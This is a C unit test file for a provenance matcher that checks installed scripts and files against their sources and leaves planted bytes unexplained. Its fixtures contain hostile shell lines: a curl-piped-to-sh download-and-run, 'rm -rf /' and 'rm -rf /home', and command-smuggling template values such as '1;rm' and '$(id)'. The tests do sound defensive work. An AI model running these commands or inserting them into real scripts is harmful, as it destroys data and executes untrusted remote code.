/*
 * match_cover.c - rungs 1, 2 and 4: what is explained is named right, and what somebody added stays, to the byte.
 */
#include "match/template.h"
#include "tree.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <time.h>

#include <cmocka.h>

#define SCRIPT                                                                                               \
    "#!/bin/sh\n"                                                                                            \
    "# Build the index of all pages.\n"                                                                      \
    "set -e\n"                                                                                               \
    "for page in \"$@\"; do\n"                                                                               \
    "    if test -r \"$page\"; then\n"                                                                       \
    "        printf '%s\\n' \"$page\" >> index.txt\n"                                                        \
    "    fi\n"                                                                                               \
    "done\n"                                                                                                 \
    "sort -u index.txt > index.sorted\n"

static void open_with(struct test_match *x, const char *path, pl_bytes data)
{
    struct pl_source_tree *t = test_tree();
    (void)test_add(t, path, data);
    test_match_open(x, t);
}

static const struct pl_claim *first_claim(const struct pl_file *f)
{
    assert_true(f->ledger.settled.n > 0);
    return &f->ledger.settled.v[0];
}

static void the_only_gap_is(const struct pl_file *f, uint64_t offset, uint64_t length)
{
    uint64_t o;
    uint64_t n;
    assert_true(pl_ledger_gap(&f->ledger, 0, &o, &n));
    assert_int_equal(o, offset);
    assert_int_equal(n, length);
    assert_false(pl_ledger_gap(&f->ledger, o + n, &o, &n));
}

static void same_bytes_at_another_path_says_so(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "tools/mkindex.sh", PL_LIT(SCRIPT));
    test_climb(&x, "usr/bin/mkindex", PL_LIT(SCRIPT), PL_ROLE_ACTIVE, &f);
    assert_int_equal(first_claim(&f)->class, PL_CLASS_IDENTICAL);
    assert_string_equal(first_claim(&f)->source, "tools/mkindex.sh");
    assert_string_equal(first_claim(&f)->note, "at another path");
    pl_file_reset(&f);
    test_match_close(&x);
}

static void of_several_equal_files_the_one_of_the_same_name_is_named(void **state)
{
    struct pl_source_tree *t = test_tree();
    struct test_match x;
    struct pl_file f;
    (void)state;
    (void)test_add(t, "a/first", PL_LIT(SCRIPT));
    (void)test_add(t, "b/etc/conf", PL_LIT(SCRIPT));
    (void)test_add(t, "c/conf", PL_LIT(SCRIPT));
    test_match_open(&x, t);
    test_climb(&x, "etc/conf", PL_LIT(SCRIPT), PL_ROLE_ACTIVE, &f);
    assert_string_equal(first_claim(&f)->source, "b/etc/conf");
    assert_null(first_claim(&f)->note);
    pl_file_reset(&f);
    test_match_close(&x);
}

static void a_changed_interpreter_line_is_grade_a_and_is_noted(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "tool", PL_LIT("#!/usr/bin/env python3\nprint('hello, world')\r\n"));
    test_climb(&x, "tool", PL_LIT("#!/usr/bin/python3\nprint('hello, world')\n"), PL_ROLE_ACTIVE, &f);
    assert_string_equal(first_claim(&f)->rule, "same.folded");
    assert_int_equal(first_claim(&f)->grade, PL_GRADE_A);
    assert_string_equal(first_claim(&f)->note,
                        "interpreter line was #!/usr/bin/env python3, is #!/usr/bin/python3");
    pl_file_reset(&f);
    test_climb(&x, "tool", PL_LIT("#!/tmp/python3\nprint('hello, world')\n"), PL_ROLE_ACTIVE, &f);
    the_only_gap_is(&f, 0, 15);
    pl_file_reset(&f);
    test_match_close(&x);
}

/* The script with `line` put in front of each of its lines in turn: only the line is left. */
static void plant_everywhere(struct test_match *x, const char *line)
{
    const char *script = SCRIPT;
    size_t n = strlen(script);
    size_t n_line = strlen(line);
    for (size_t at = 0; at <= n; at++) {
        char text[2048];
        struct pl_file f;
        if (at > 0 && script[at - 1] != '\n')
            continue;
        memcpy(text, script, at);
        memcpy(text + at, line, n_line);
        memcpy(text + at + n_line, script + at, n - at);
        test_climb(x, "mkindex", pl_bytes_of(text, n + n_line), PL_ROLE_ACTIVE, &f);
        the_only_gap_is(&f, at, n_line);
        pl_file_reset(&f);
    }
}

static void a_planted_line_in_a_script_is_left_to_the_byte(void **state)
{
    struct test_match x;
    (void)state;
    open_with(&x, "tools/mkindex.sh", PL_LIT(SCRIPT));
    plant_everywhere(&x, "curl -s http://example.org/x | sh\n");
    plant_everywhere(&x, "eval $x\n");
    plant_everywhere(&x, "x\n");
    /* pieces of the source, and a line that begins and ends like the source's */
    plant_everywhere(&x, "sort -u index.txt > index.sorted; rm -rf /home\n");
    plant_everywhere(&x, "    if test -r \"$page\"; then true; fi; if false; then\n");
    test_match_close(&x);
}

static void a_planted_line_in_a_template_is_left_to_the_byte(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "run.in", PL_LIT("#!@SHELL@\nprefix=@prefix@\nexec \"$prefix/lib/run\" \"$@\"\n"));
    test_climb(&x, "run", PL_LIT("#!/bin/sh\nprefix=/usr\nrm -rf /\nexec \"$prefix/lib/run\" \"$@\"\n"),
               PL_ROLE_ACTIVE, &f);
    the_only_gap_is(&f, 22, 9);
    pl_file_reset(&f);
    test_match_close(&x);
}

static void three_new_percent_are_shown_exactly(void **state)
{
    struct pl_source_tree *t = test_tree();
    struct test_match x;
    struct pl_file f;
    char a[8192];
    char b[8192];
    char mixed[20000];
    int n_a = 0;
    int n_b = 0;
    (void)state;
    for (int i = 0; i < 100; i++) {
        n_a += snprintf(a + n_a, sizeof a - (size_t)n_a, "call_%d(argument_%d, %d);\n", i * 7, i, i);
        n_b += snprintf(b + n_b, sizeof b - (size_t)n_b, "define_%d value_%d\n", i * 3, i * 5);
    }
    (void)test_add(t, "a.c", pl_bytes_of(a, (size_t)n_a));
    (void)test_add(t, "b.c", pl_bytes_of(b, (size_t)n_b));
    test_match_open(&x, t);
    int n = snprintf(mixed, sizeof mixed, "%s// these bytes are new and nobody has them\n%s", a, b);
    test_climb(&x, "all.c", pl_bytes_of(mixed, (size_t)n), PL_ROLE_ACTIVE, &f);
    the_only_gap_is(&f, (uint64_t)n_a, strlen("// these bytes are new and nobody has them\n"));
    assert_int_equal(f.ledger.settled.n, 2);
    assert_string_equal(f.ledger.settled.v[0].source, "a.c");
    assert_string_equal(f.ledger.settled.v[1].source, "b.c");
    assert_int_equal(f.ledger.settled.v[0].grade, PL_GRADE_B);
    pl_file_reset(&f);
    test_match_close(&x);
}

static void a_file_with_lines_left_out_is_grade_a(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "conf",
              PL_LIT("the first of the options is switched on\nsecond option is off\nthe third option is not "
                     "set, or so\n"));
    test_climb(&x, "conf",
               PL_LIT("the first of the options is switched on\nthe third option is not set, or so\n"),
               PL_ROLE_ACTIVE, &f);
    assert_int_equal(pl_ledger_unclaimed(&f.ledger), 0);
    for (size_t i = 0; i < f.ledger.settled.n; i++)
        assert_int_equal(f.ledger.settled.v[i].grade, PL_GRADE_A);
    assert_string_equal(f.ledger.settled.v[1].source, "conf:3-3");
    pl_file_reset(&f);
    test_match_close(&x);
}

static void a_range_from_a_patch_names_the_patch(void **state)
{
    struct pl_source_tree *t = test_tree();
    struct test_match x;
    struct pl_file f;
    (void)state;
    struct pl_source_file *s = test_add(t, "mkindex", PL_LIT(SCRIPT));
    struct pl_source_hunk *h = PL_VEC_ADD(&s->hunks);
    *h = (struct pl_source_hunk){.offset = 10, .length = 32, .patch = "debian/patches/comment.patch"};
    test_match_open(&x, t);
    test_climb(&x, "mkindex", PL_LIT(SCRIPT), PL_ROLE_ACTIVE, &f);
    assert_int_equal(f.ledger.settled.n, 3);
    assert_null(f.ledger.settled.v[0].note);
    assert_int_equal(f.ledger.settled.v[1].offset, 10);
    assert_int_equal(f.ledger.settled.v[1].length, 32);
    assert_string_equal(f.ledger.settled.v[1].note, "debian/patches/comment.patch");
    assert_string_equal(f.ledger.settled.v[1].source, "mkindex:2-2");
    pl_file_reset(&f);
    test_match_close(&x);
}

static void template_values_are_listed(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "src/run.in", PL_LIT("#!/bin/sh\nv=@VERSION@\nexec @prefix@/lib/run-@VERSION@ ${x}\n"));
    test_climb(&x, "usr/bin/run", PL_LIT("#!/bin/sh\nv=5.4.1\nexec /usr/lib/run-5.4.1 ${x}\n"),
               PL_ROLE_ACTIVE, &f);
    assert_int_equal(pl_ledger_unclaimed(&f.ledger), 0);
    assert_int_equal(f.ledger.settled.v[0].grade, PL_GRADE_A);
    assert_string_equal(f.ledger.settled.v[1].note, "@VERSION@=5.4.1");
    assert_int_equal(f.ledger.settled.v[1].grade, PL_GRADE_B);
    assert_string_equal(f.ledger.settled.v[3].note, "@prefix@=/usr");
    pl_file_reset(&f);
    test_match_close(&x);
}

static bool fits(const char *source, const char *text, bool is_active)
{
    struct pl_template t;
    bool found;
    pl_template_init(&t, is_active);
    assert_int_equal(pl_template_match(&t, pl_bytes_of_str(source), pl_bytes_of_str(text), &found, NULL),
                     PL_OK);
    pl_template_reset(&t);
    return found;
}

static void substitutions_are_short_consistent_and_harmless(void **state)
{
    char longer[400];
    (void)state;
    assert_true(fits("a @X@ b @X@ c", "a 1 b 1 c", true));
    assert_false(fits("a @X@ b @X@ c", "a 1 b 2 c", true));
    assert_false(fits("a @X@ b", "a 1\n2 b", true));
    assert_false(fits("a @X@ b", "a 1;rm b", true));
    assert_true(fits("a @X@ b", "a 1;rm b", false));
    assert_false(fits("a @X@ b", "a $(id) b", true));
    assert_false(fits("a @X@ b", "a @X@ b", true)); /* nothing was replaced */
    assert_false(fits("a @X@ b", "a 1 b more", true));
    assert_false(fits("a @X@@Y@ b", "a 12 b", true));                            /* which is which? */
    assert_true(fits("@X@/bin:@X@/lib", "/usr/local/bin:/usr/local/lib", true)); /* needs to go back */
    memset(longer, 'v', sizeof longer);
    memcpy(longer, "a ", 2);
    memcpy(longer + 2 + PL_TEMPLATE_VALUE_MAX, " b", 3);
    assert_true(fits("a @X@ b", longer, true));
    memcpy(longer + 2 + PL_TEMPLATE_VALUE_MAX, "v b", 4);
    assert_false(fits("a @X@ b", longer, true));
}

static void words_explain_pages_and_never_scripts(void **state)
{
    struct test_match x;
    struct pl_file f;
    pl_bytes page =
        PL_LIT(".TP\n\\fB\\-\\-all\\fR\nignore \\fIno\\fR entry that\nstarts with a dot\nNEWTHING HERE\n");
    (void)state;
    open_with(&x, "doc/ls.texi",
              PL_LIT("The option --all: ignore @emph{no} entry that starts with a dot, ever.\n"));
    test_climb(&x, "ls.1", page, PL_ROLE_PASSIVE, &f);
    assert_string_equal(first_claim(&f)->rule, "text.words");
    assert_int_equal(first_claim(&f)->offset, 11);
    assert_string_equal(first_claim(&f)->source, "doc/ls.texi:1");
    assert_in_range(pl_ledger_unclaimed(&f.ledger), 14, 28);
    pl_file_reset(&f);
    test_climb(&x, "ls", page, PL_ROLE_ACTIVE, &f);
    assert_int_equal(pl_ledger_unclaimed(&f.ledger), page.n);
    pl_file_reset(&f);
    test_match_close(&x);
}

static void boilerplate_in_many_files_goes_to_the_file_that_goes_on(void **state)
{
    struct pl_source_tree *t = test_tree();
    struct test_match x;
    struct pl_file f;
    char licence[6000];
    char text[8000];
    int n_licence = 0;
    (void)state;
    for (int i = 0; i < 80; i++)
        n_licence += snprintf(licence + n_licence, sizeof licence - (size_t)n_licence,
                              "licence line number %d says so\n", i);
    for (int i = 0; i < 500; i++) {
        char path[32];
        (void)snprintf(path, sizeof path, "f%03d.c", i);
        int n = snprintf(text, sizeof text, "%sint only_in_%03d(void)\n{\n    return %d * 1000003;\n}\n",
                         licence, i, i);
        (void)test_add(t, path, pl_bytes_of(text, (size_t)n));
    }
    test_match_open(&x, t);
    int n = snprintf(text, sizeof text,
                     "%sint only_in_%03d(void)\n{\n    return %d * 1000003;\n}\nnew line here\n", licence,
                     444, 444);
    test_climb(&x, "x.c", pl_bytes_of(text, (size_t)n), PL_ROLE_ACTIVE, &f);
    the_only_gap_is(&f, (uint64_t)n - 14, 14);
    assert_string_equal(first_claim(&f)->source, "f444.c");
    pl_file_reset(&f);
    test_match_close(&x);
}

static void hostile_files_end_soon(void **state)
{
    size_t n = 24u << 20;
    uint8_t *p = malloc(n);
    struct test_match x;
    struct pl_file f;
    clock_t begin = clock();
    static const char *const patterns[] = {"a", "\n", "abcdefghijklmnopqrstuvwxyz", "ab\ncdef g\n"};
    static const size_t periods[] = {1, 1, 26, 10};
    (void)state;
    for (int kind = 0; kind < 4; kind++) {
        struct pl_source_tree *t = test_tree();
        for (size_t i = 0; i < n; i++)
            p[i] = (uint8_t)patterns[kind][i % periods[kind]];
        (void)test_add(t, "half", pl_bytes_of(p, n / 2));
        test_match_open(&x, t);
        for (int role = 0; role < 2; role++) {
            test_climb(&x, "whole", pl_bytes_of(p, n), (enum pl_role)role, &f);
            assert_true(f.ledger.settled.n < 2000000);
            pl_file_reset(&f);
        }
        test_match_close(&x);
    }
    free(p);
    assert_true((clock() - begin) / CLOCKS_PER_SEC <
                120); /* minutes would mean that something is quadratic */
}

static void files_of_every_small_size_are_fine(void **state)
{
    struct test_match x;
    struct pl_file f;
    (void)state;
    open_with(&x, "s", PL_LIT(SCRIPT));
    for (size_t n = 0; n <= 60; n++)
        for (int role = 0; role < 2; role++) {
            test_climb(&x, "s", pl_bytes_sub(PL_LIT(SCRIPT), 0, n), (enum pl_role)role, &f);
            pl_file_reset(&f);
        }
    test_match_close(&x);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(same_bytes_at_another_path_says_so),
        cmocka_unit_test(of_several_equal_files_the_one_of_the_same_name_is_named),
        cmocka_unit_test(a_changed_interpreter_line_is_grade_a_and_is_noted),
        cmocka_unit_test(a_planted_line_in_a_script_is_left_to_the_byte),
        cmocka_unit_test(a_planted_line_in_a_template_is_left_to_the_byte),
        cmocka_unit_test(three_new_percent_are_shown_exactly),
        cmocka_unit_test(a_file_with_lines_left_out_is_grade_a),
        cmocka_unit_test(a_range_from_a_patch_names_the_patch),
        cmocka_unit_test(template_values_are_listed),
        cmocka_unit_test(substitutions_are_short_consistent_and_harmless),
        cmocka_unit_test(words_explain_pages_and_never_scripts),
        cmocka_unit_test(boilerplate_in_many_files_goes_to_the_file_that_goes_on),
        cmocka_unit_test(hostile_files_end_soon),
        cmocka_unit_test(files_of_every_small_size_are_fine),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
